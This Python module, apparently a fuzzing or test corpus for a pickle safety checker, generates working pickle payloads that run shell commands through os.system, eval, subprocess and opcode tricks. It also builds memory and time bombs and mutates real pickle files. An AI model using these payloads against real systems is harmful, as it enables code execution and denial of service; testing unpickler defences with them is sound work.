"""Pickles that run a command, or take all memory or time, in Python's own unpickler."""

from __future__ import annotations

import pickletools
import random
import struct
from collections.abc import Iterator


def text(value: str | bytes) -> bytes:
    """A text instruction (BINUNICODE)."""
    data = value.encode() if isinstance(value, str) else value
    return b"X" + struct.pack("<I", len(data)) + data


def call(name: str, *arguments: bytes) -> bytes:
    """Instructions that import `module.function` and call it."""
    module, _, function = name.rpartition(".")
    return f"c{module}\n{function}\n(".encode() + b"".join(arguments) + b"tR"


def commands(command: str) -> dict[str, bytes]:
    """By name: instructions, each leaving one value on the stack, most of which run `command`."""
    said, code = text(command), text(f"__import__('os').system({command!r})")
    module = call("builtins.__import__", text("os"))
    found = {
        name: call(name, said)
        for name in ("os.system", "posix.system", "os.popen", "subprocess.getoutput", "pty.spawn")
    }
    found |= {
        name: call(name, code)
        for name in (
            "builtins.eval",
            "__builtin__.eval",
            "builtins.exec",
            "timeit.timeit",
            "cProfile.run",
            "numpy.testing._private.utils.runstring",
            "code.interact",
            "torch.load",
        )
    }
    system = call("builtins.getattr", module, text("system"))
    nested = b"\x80\x02" + call("os.system", said) + b"."
    found |= {
        "subprocess.call": call(
            "subprocess.call", b"](" + b"".join(map(text, command.split())) + b"e"
        ),
        "getattr": system + b"(" + said + b"tR",
        "attrgetter": call("operator.attrgetter", text("system"))
        + b"("
        + module
        + b"tR("
        + said
        + b"tR",
        "methodcaller": call("operator.methodcaller", text("system"), said) + b"(" + module + b"tR",
        "partial": call("functools.partial", system, said) + b")R",
        "map": call("builtins.list", call("builtins.map", system, b"](" + said + b"e")),
        "pickle.loads": call("pickle.loads", b"B" + struct.pack("<I", len(nested)) + nested),
        "numpy.load": call("numpy.load", said, b"N\x88"),
        "numpy._core.multiarray.fromstring": call("numpy._core.multiarray.fromstring", said),
        "numpy.core.multiarray.fromfile": call("numpy.core.multiarray.fromfile", text("/dev/zero")),
        "numpy.memmap": call("numpy.memmap", text("/dev/zero")),
        "codecs.open": call("codecs.open", said, text("w")),
        "_codecs.encode": call("_codecs.encode", said, text("idna")),
        "_codecs.lookup": call("_codecs.lookup", said),
        "types.FunctionType": call("types.FunctionType", said, b"}"),
        "copyreg._reconstructor": call("copy_reg._reconstructor", b"cos\nsystem\n", said, b"N"),
        "INST": b"(" + said + b"ios\nsystem\n",
        "OBJ": b"(cos\nsystem\n" + said + b"o",
        "NEWOBJ": b"csubprocess\nPopen\n(" + said + b"t\x81",
        "NEWOBJ_EX": b"csubprocess\nPopen\n(" + said + b"t}\x92",
        "STACK_GLOBAL": text("os") + text("system") + b"\x93(" + said + b"tR",
        "STACK_GLOBAL of an array": b"]" + text("system") + b"\x93",
        "REDUCE of text": said + b")R",
        "REDUCE of ndarray": b"cnumpy\nndarray\n(K\x01tR",
        "BUILD of a dict": b"}}" + text("__setstate__") + b"cos\nsystem\nsb",
        "BUILD of a module": module + b"}" + text("path") + b"Nsb",
        "GLOBAL alone": b"cnumpy\ndtype\n",
        "PERSID": b"Pfile:///etc/passwd\n",
        "BINPERSID": said + b"Q",
        "EXT1": b"\x82\x01",
        "EXT2": b"\x83\x01\x00",
        "EXT4": b"\x84\x01\x00\x00\x00",
        "DUP": b"]2a",
        "POP": b"N]0",
        "POP_MARK": b"N(NN1",
        "EMPTY_SET": b"\x8f(K\x01\x90",
        "FROZENSET": b"(K\x01\x91",
        "BYTEARRAY8": b"\x96\x01" + bytes(7) + b"x",
        "NEXT_BUFFER": b"\x97",
        "READONLY_BUFFER": b"]\x98",
        "LONG4": b"\x8b\x04\x00\x00\x00" + bytes(4),
        "PROTO 5": b"\x80\x05N",
    }
    return found


def array(shape: bytes = b"K\x04\x85", kind: bytes = b"", data: bytes = b"") -> bytes:
    """Instructions for an array of 4 zeros, or with other parts."""
    return (
        b"cnumpy.core.multiarray\n_reconstruct\n(cnumpy\nndarray\nK\x00\x85C\x01btR(K\x01"
        + shape
        + (kind or dtype("f4"))
        + b"\x89"
        + (data or b"C\x10" + bytes(16))
        + b"tb"
    )


def dtype(
    code: str, state: bytes = b"K\x03" + text("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00"
) -> bytes:
    """Instructions for a dtype."""
    return call("numpy.dtype", text(code), b"\x89\x88") + b"(" + state + b"tb"


def bombs(size: int) -> Iterator[tuple[str, bytes]]:
    """Names and instructions that build far more than they are long, or are about `size` long."""
    few, many = 50_000, size // 2
    laughs = {
        "lists": (b"]", b"](", b"e"),
        "tuples": (b")", b"(", b"t"),
        "dicts": (b"}", b"}(", b"u"),
    }
    for name, (empty, start, end) in laughs.items():
        key = text("k") if name == "dicts" else b""
        yield (
            f"billion laughs of {name}",
            empty
            + b"q\x00"
            + b"".join(
                start
                + b"".join(
                    key.replace(b"k", bytes([97 + n])) + b"h" + bytes([i]) for n in range(10)
                )
                + end
                + b"q"
                + bytes([i + 1])
                for i in range(60)
            ),
        )
    shared = b")q\x00" + b"".join(
        b"h" + bytes([n]) + b"h" + bytes([n]) + b"\x86q" + bytes([n + 1]) for n in range(60)
    )
    for name, code in {
        "as a name": shared + text("a") + b"\x93",
        "as a dtype": b"cnumpy\ndtype\n(" + shared + b"\x89\x88tR",
        "as a codec": b"c_codecs\nencode\n" + text("a") + shared + b"\x86R",
        "as an order": call("numpy.dtype", text("f4"), b"\x89\x88")
        + b"(K\x03"
        + shared
        + b"NNNK\x00K\x00K\x00tb",
        "as a key": b"}" + shared + b"Ns",
        "as a shape": array(shape=shared),
        "as a state": array(kind=dtype("f4", shared)),
    }.items():
        yield f"shared tuples {name}", code
        deep = code.replace(shared, b")" + b"\x85" * 2000)
        yield f"2,000 nested tuples {name}", deep
    pairs = b"](" + b"".join(text(str(n)) + b"N\x86" for n in range(12_000)) + b"eq\x00"
    once = b"ccollections\nOrderedDict\nh\x00\x85R"
    yield "a list of pairs made into dicts again and again", pairs + once * 12_000
    yield "a text as arguments", b"cnumpy\ndtype\nX" + struct.pack("<I", size) + b"a" * size + b"R"
    yield (
        "a text as a state",
        call("numpy.dtype", text("f4"), b"\x89\x88")
        + b"X"
        + struct.pack("<I", size)
        + b"a" * size
        + b"b",
    )
    long_key = b"X" + struct.pack("<I", many) + b"k" * many
    yield (
        "long keys, equal and compared",
        b"}"
        + long_key
        + b"q\x00"
        + b"Ns"
        + b"".join((long_key[: 5 + many] + b"q\x01Ns",) + (b"h\x01Ns",) * 10_000),
    )
    held = b"B" + struct.pack("<I", size) + b"a" * size + b"q\x00"
    yield (
        "long bytes as a dtype, again and again",
        held + (b"cnumpy\ndtype\n(h\x00\x89\x88tR" * 10_000),
    )
    yield "a list in itself", b"]q\x00h\x00a"
    yield "a dict in itself", b"}q\x00" + text("k") + b"h\x00s"
    yield "a list twice as long each time", b"]q\x00" + b"(" + b"h\x00" * 20 + b"e" * few
    yield "deep lists", b"]" * few + b"a" * (few - 1)
    yield "deep tuples", b")" + b"\x85" * few
    yield "deep dicts", (b"}" + text("k")) * few + b"N" + b"s" * few
    yield "deep marks", b"(" * few + b"t" * few
    yield "marks only", b"(" * many
    yield "empty dicts", b"}" * many
    yield "nothings", b"](" + b"N" * many + b"e"
    yield "far memo", b"Nr\xff\xff\xff\xff"
    yield "far memo as text", b"Np" + b"9" * 900 + b"\n"
    yield (
        "colliding keys",
        b"}("
        + b"".join(
            b"\x8a\x0a" + (n * (2**61 - 1)).to_bytes(10, "little") + b"N" for n in range(20_000)
        )
        + b"u",
    )
    for op, width in (
        ("X", 4),
        ("B", 4),
        ("T", 4),
        ("\x8c", 1),
        ("U", 1),
        ("\x8d", 8),
        ("\x8e", 8),
    ):
        yield f"length in {op!r}", op.encode("latin-1") + b"\xff" * (width - 1) + b"\x7f"
    yield "frame", b"\x95" + b"\xff" * 8 + b"N"
    for op in "IFLVSgp":
        yield f"long line of {op}", op.encode() + b"9" * many + b"\n"
        yield f"endless line of {op}", op.encode() + b"9" * many
    yield "long integer", b"\x8b" + struct.pack("<I", many) + b"\x7f" * many

    yield "shape without data", array(b"\x8a\x06\x00\x00\x00\x00\x00\x01\x85", data=b"C\x00")
    yield "shape of nothing", array(b"K\x00\x8a\x08" + b"\xff" * 7 + b"\x3f\x86", data=b"C\x00")
    yield "negative shape", array(b"J\xff\xff\xff\xffJ\xfc\xff\xff\xff\x86")
    yield "shape of many", array(b"(" + b"K\x01" * few + b"t", data=b"C\x04" + bytes(4))
    yield (
        "shape of giants",
        b"\x8a\xff" + b"\x7f" * 255 + b"q\x00" + array(b"(" + b"h\x00" * few + b"t"),
    )
    yield "shape of a list", array(b"](K\x02K\x02e")
    yield "shape of truths", array(b"\x88\x88K\x04\x87")
    yield "floats as shape", array(b"G" + struct.pack(">d", 4.0) + b"\x85")
    for kind in ("O", "O8", "V16", "V1000000000", "S16", "U1000000000", "M8", "m8[s]", "f16", "c8"):
        yield f"dtype {kind}", array(b"K\x01\x85", dtype(kind))
    yield "dtype of parts", array(b"K\x01\x85", dtype("i4,(1000000000,)f8"))
    yield "dtype a list", array(b"K\x01\x85", b"cnumpy\ndtype\n](" + text("O") + b"e\x85R")
    yield (
        "dtype with fields",
        array(kind=dtype("f4", b"K\x03" + text("<") + b"N" + b"}}" + b"K\x04K\x01K\x00")),
    )
    yield (
        "dtype with metadata",
        array(kind=dtype("f4", b"K\x04" + text("<") + b"NNNK\x04K\x01K\x00}")),
    )
    yield (
        "dtype in an odd order",
        array(kind=dtype("f4", b"K\x03" + text(">f8,") + b"NNNK\x04K\x01K\x00")),
    )
    yield "objects", array(b"K\x01\x85", dtype("O"), b"](" + call("os.getpid") + b"e")
    yield (
        "array without numbers",
        b"cnumpy.core.multiarray\n_reconstruct\n(cnumpy\nndarray\nK\x00\x85C\x01btR",
    )
    yield "numbers of a list", array(data=b"](" + b"N" * 16 + b"e")

    large = b"X" + struct.pack("<I", many) + b"a" * many
    encoded = b"c_codecs\nencode\nq\x01" + large + b"q\x02" + text("latin1") + b"\x86R"
    again = b"h\x01h\x02" + text("latin1") + b"\x86R"
    yield "encoded again and again", b"](" + encoded + again * 1000 + b"e"
    bytes_ = b"B" + struct.pack("<I", many) + b"\xff" * many + b"q\x00"
    yield "bytes again and again", b"](" + bytes_ + b"h\x00" * few + b"e"
    length = b"J" + struct.pack("<I", many // 2) + b"\x85"
    once = array(length, dtype("f2"), b"h\x00")
    yield "arrays of the same bytes", b"](" + bytes_ + once * 200 + b"e"
    yield "one array of float16", b"](" + bytes_ + once + b"e"
    yield "one array again and again", b"](" + bytes_ + once + b"q\x03" + b"h\x03" * few + b"e"
    emoji = "\N{PISTOL}".encode()
    yield "wide text", b"X" + struct.pack("<I", 2 * many - 4) + b"a" * (2 * many - 8) + emoji
    short = text(b"a" * 60_000 + emoji)
    yield "wide texts", b"](" + short * (2 * many // len(short)) + b"e"
    yield "wide line", b"V" + b"a" * many + b"\\U0001f52b\n"
    lines = b"V" + b"a" * 60_000 + b"\\U0001f52b\n"
    yield "wide lines", b"](" + lines * (many // len(lines)) + b"e"
    yield "escapes", b"S'" + b"\\xff" * (many // 4) + b"'\n"
    yield "odd escapes", b"S'" + b"\\q" * 1000 + b"'\n"
    yield "no quotes", b"Sx\n"


def mutations(files: list[bytes], command: str, seed: int) -> Iterator[tuple[str, bytes]]:
    """Without end: real files cut, with bits flipped, parts moved, commands put in; and soups."""
    rng = random.Random(seed)
    ops = [op.code.encode("latin-1") for op in pickletools.opcodes]
    run = list(commands(command).values())
    starts = {file: _instructions(file) for file in files}
    while True:
        file, other = rng.choice(files), rng.choice(files)
        at, to = sorted(rng.choices(range(len(file)), k=2))
        between = rng.choice(starts[file][1:])
        kind = rng.choice(
            ["cut", "flip", "flip", "opcode", "drop", "repeat", "splice", "insert", "soup"]
        )
        match kind:
            case "cut":
                data = file[:at]
            case "flip":
                changed = bytearray(file)
                for _ in range(rng.choice([1, 1, 3, 30])):
                    changed[rng.randrange(len(file))] ^= 1 << rng.randrange(8)
                data = bytes(changed)
            case "opcode":
                data = file[:between] + rng.choice(ops) + file[between + rng.choice([0, 1]) :]
            case "drop":
                data = file[:at] + file[to:]
            case "repeat":
                data = file[:to] + file[at:to] * rng.choice([1, 10]) + file[to:]
            case "splice":
                data = file[:between] + other[rng.choice(starts[other][1:]) :]
            case "insert":
                data = file[:between] + rng.choice(run) + b"0" + file[between:]
            case _:
                data = b"\x80\x02" + b"".join(
                    rng.choice(ops) + rng.randbytes(rng.choice([0, 0, 1, 4])) for _ in range(100)
                )
        yield kind, data


def _instructions(file: bytes) -> list[int]:
    """Where instructions start; in protocol 0, whose text pickletools cannot read, after a line."""
    if file.startswith(b"\x80"):
        return [at or 0 for _, _, at in pickletools.genops(file)]
    return [at + 1 for at, byte in enumerate(file[:-1]) if byte == ord("\n")]
